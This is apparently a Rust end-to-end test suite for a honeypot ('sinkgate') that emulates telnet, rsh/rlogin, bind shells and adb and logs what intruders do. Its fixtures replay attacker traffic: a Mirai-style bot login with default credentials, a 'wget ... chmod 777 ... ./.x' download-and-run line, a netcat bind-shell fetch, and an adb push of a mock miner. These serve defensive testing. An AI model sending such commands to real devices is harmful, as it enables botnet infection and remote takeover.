//! Shells: by clients of distributions, scripts that type, and bots.

use serde_json::{Value, json};
use testkit::programs::{python, shell};
use testkit::{Direction, Gateway};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

/// Nobody has this address: there is a device because there are everywhere.
const SERVER: &str = "203.0.113.23";

/// What was said to shells.
fn commands(gateway: &Gateway, count: usize) -> Vec<Value> {
    let said = gateway.database.details("service.command", count);
    said.iter().map(|one| one["command"].clone()).collect()
}

#[test]
#[ignore = "end to end: needs root"]
fn somebody_logs_in_with_telnet_and_looks_around() {
    let Some(gateway) = Gateway::start(SINKGATE, &["telnet", "expect"], &[]) else { return };
    let script = gateway.folder.written(
        "session.exp",
        format!(
            "set timeout 20\n\
             proc wait {{text}} {{ expect -ex $text {{}} timeout {{ puts \"NO $text\"; exit 1 }} eof {{ exit 2 }} }}\n\
             spawn telnet {SERVER}\n\
             wait {{login: }}\nsend \"root\\r\"\n\
             wait {{Password: }}\nsend \"s3cret\\r\"\n\
             wait {{~ # }}\nsend \"id\\r\"\n\
             wait {{uid=0(root)}}\nwait {{~ # }}\n\
             send \"cat > /tmp/note\\r\"\nsend \"left behind\\r\"\nsend \"\\004\"\n\
             wait {{~ # }}\nsend \"cat /tmp/note\\r\"\n\
             wait {{left behind}}\nwait {{~ # }}\n\
             send \"echo wrogn\\177\\177ng\\r\"\nwait {{wrong}}\nwait {{~ # }}\n\
             send \"exit\\r\"\nexpect eof\n"
        )
        .as_bytes(),
    );
    let line = format!("TERM=xterm-256color expect {}", script.display());
    let seen = shell(&gateway.network.victim, &line).stdout;
    assert!(seen.contains("Connection closed"), "{seen}");
    let given = gateway.database.details("credentials.given", 1);
    assert_eq!((&given[0]["user"], &given[0]["secret"]), (&json!("root"), &json!("s3cret")));
    assert_eq!(given[0]["protocol"], "telnet");
    let said = commands(&gateway, 5);
    assert_eq!(said, ["id", "cat > /tmp/note", "cat /tmp/note", "echo wrong", "exit"], "{seen}");
    let options = gateway.database.details("telnet.option", 2);
    let terminal = options.iter().find(|one| one["option"] == "terminal-type");
    let terminal = terminal.map(|one| one["value"].as_str().unwrap().to_ascii_lowercase());
    assert_eq!(terminal.as_deref(), Some("xterm-256color"), "{options:?}");
    gateway.database.expect(
        "SELECT source, name, bytes, completeness FROM artifact",
        &json!([{
            "source": "shell-file", "name": "/tmp/note", "bytes": 12, "completeness": "whole"
        }]),
    );
}

#[test]
#[ignore = "end to end: needs root"]
fn the_client_of_busybox_gets_through_by_a_pipe() {
    let Some(gateway) = Gateway::start(SINKGATE, &["busybox"], &[]) else { return };
    let line = format!(
        "(sleep 1; echo admin; sleep 1; echo admin; echo uname -m; sleep 1; echo exit; sleep 1) | \
         busybox telnet {SERVER} 2323; true"
    );
    let seen = shell(&gateway.network.victim, &line).stdout;
    let machines = ["armv7l", "mips", "x86_64"];
    assert!(machines.iter().any(|machine| seen.contains(machine)), "{seen}");
    assert_eq!(commands(&gateway, 2), ["uname -m", "exit"]);
}

/// What a bot does at a port: it sends all at once, and looks for its word.
fn bot(port: u16, first: &str) -> String {
    format!(
        "import socket\n\
         peer = socket.create_connection(('{SERVER}', {port}), timeout=20)\n\
         seen = b''\n\
         {first}\n\
         peer.sendall(b'root\\r\\nvizxv\\r\\nenable\\r\\nsystem\\r\\nshell\\r\\nsh\\r\\n'\n\
         \x20   b'/bin/busybox MIRAI\\r\\n')\n\
         while b'MIRAI: applet not found' not in seen:\n\
         \x20   heard = peer.recv(4096)\n\
         \x20   assert heard, seen\n\
         \x20   seen += heard\n\
         peer.sendall(b'cd /tmp; wget http://203.0.113.9/bins/x.mips -O .x; chmod 777 .x; ./.x\\r\\n')\n\
         peer.sendall(b'echo -ne \"\\\\x7f\\\\x45\\\\x4c\\\\x46\" > .y; echo -ne \"\\\\x01\" >> .y; exit\\r\\nexit\\r\\n')\n\
         while peer.recv(4096):\n\
         \x20   pass\n\
         print('done')"
    )
}

#[test]
#[ignore = "end to end: needs root"]
fn bots_get_in_whether_they_wait_or_not() {
    let Some(gateway) = Gateway::start(SINKGATE, &["python3"], &[]) else { return };
    let waits = "while b'login: ' not in seen: seen += peer.recv(4096)";
    for (port, first) in [(23, "pass"), (2_323, waits), (23_231, waits)] {
        assert_eq!(python(&gateway.network.victim, &bot(port, first)), "done\n", "{port}");
    }
    let given = gateway.database.details("credentials.given", 3);
    assert!(given.iter().all(|given| given["secret"] == "vizxv"), "{given:?}");
    let asked = gateway.database.details("download.asked", 3);
    let expected = json!({
        "protocol": "telnet", "program": "wget", "url": "http://203.0.113.9/bins/x.mips"
    });
    assert!(asked.iter().all(|asked| *asked == expected), "{asked:?}");
    gateway.database.expect(
        "SELECT name, bytes, completeness, count(*) AS count FROM artifact GROUP BY 1, 2, 3",
        &json!([{"name": "/tmp/.y", "bytes": 5, "completeness": "whole", "count": 3}]),
    );
    gateway.database.expect(
        "SELECT protocol, count(*) AS count FROM flow_end GROUP BY protocol",
        &json!([{"protocol": "telnet", "count": 3}]),
    );
    let sent = gateway.database.stream(Direction::ToVictim, "dst_port = 23");
    assert!(sent.starts_with(b"\xff\xfb\x01"), "{}", sent.escape_ascii());
}

#[test]
#[ignore = "end to end: needs root"]
fn remote_commands_of_berkeley_are_run_and_somebody_is_let_in() {
    let Some(gateway) = Gateway::start(SINKGATE, &["rsh-redone-rlogin", "script"], &[]) else {
        return;
    };
    let line = format!(
        "(sleep 1; echo 'uname -n'; sleep 1; echo exit; sleep 1) | TERM=vt100 script -qec \
         'rsh-redone-rlogin -l admin {SERVER}' /dev/null; true"
    );
    let seen = shell(&gateway.network.victim, &line).stdout;
    assert!(seen.contains("~ # "), "{seen}");
    let script = format!(
        "import socket\n\
         for port, said in [(514, b'0\\0jo\\0root\\0id\\0'), (512, b'0\\0root\\0s3cret\\0id\\0')]:\n\
         \x20   peer = socket.create_connection(('{SERVER}', port), timeout=20)\n\
         \x20   peer.sendall(said)\n\
         \x20   print(peer.makefile('rb').read())"
    );
    let answer = "b'\\x00uid=0(root) gid=0(root) groups=0(root)\\n'\n";
    assert_eq!(python(&gateway.network.victim, &script), answer.repeat(2));
    let given = gateway.database.details("credentials.given", 3);
    let mechanisms: Vec<&Value> = given.iter().map(|given| &given["mechanism"]).collect();
    assert_eq!(mechanisms, ["trusted", "trusted", "password"]);
    assert_eq!(commands(&gateway, 4), ["uname -n", "exit", "id", "id"]);
}

#[test]
#[ignore = "end to end: needs root"]
fn a_shell_left_at_a_port_answers_whoever_finds_it() {
    let Some(gateway) = Gateway::start(SINKGATE, &["nc"], &[]) else { return };
    for (port, line) in [(4_444, "id"), (9_000, "cd /tmp; id; wget http://203.0.113.9/x")] {
        let line = format!("printf '{line}\\n' | nc -N -w 5 {SERVER} {port}");
        let seen = shell(&gateway.network.victim, &line).stdout;
        assert!(seen.contains("uid=0(root)"), "{port}: {seen}");
    }
    assert_eq!(gateway.database.details("download.asked", 1)[0]["protocol"], "bind-shell");
    gateway.database.expect(
        "SELECT protocol, count(*) AS count FROM flow_end GROUP BY protocol",
        &json!([{"protocol": "bind-shell", "count": 2}]),
    );
}

#[test]
#[ignore = "end to end: needs root"]
fn adb_connects_runs_a_line_and_pushes_a_program() {
    let Some(gateway) = Gateway::start(SINKGATE, &["adb"], &[]) else { return };
    let program = gateway.folder.written("miner", [b"\x7fELF".as_slice(), &[7; 100_000]].concat());
    let line = format!(
        "export HOME={home} ADB=\"adb -s {SERVER}:5555\"; adb connect {SERVER}:5555; \
         $ADB shell 'cd /data/local/tmp; id'; $ADB push {program} /data/local/tmp/miner; \
         $ADB shell /data/local/tmp/miner; adb kill-server",
        home = gateway.folder.file("home").display(),
        program = program.display(),
    );
    let line = format!("mkdir -p {}; {line}", gateway.folder.file("home").display());
    let seen = shell(&gateway.network.victim, &line).stdout;
    assert!(seen.contains("uid=0(root)"), "{seen}");
    gateway.database.expect(
        "SELECT name, bytes, completeness FROM artifact",
        &json!([{"name": "/data/local/tmp/miner", "bytes": 100_004, "completeness": "whole"}]),
    );
    gateway.database.expect(
        "SELECT count(*) AS count FROM event WHERE kind = 'service.command' \
         AND details ->> 'command' = '/data/local/tmp/miner'",
        &json!([{"count": 1}]),
    );
}
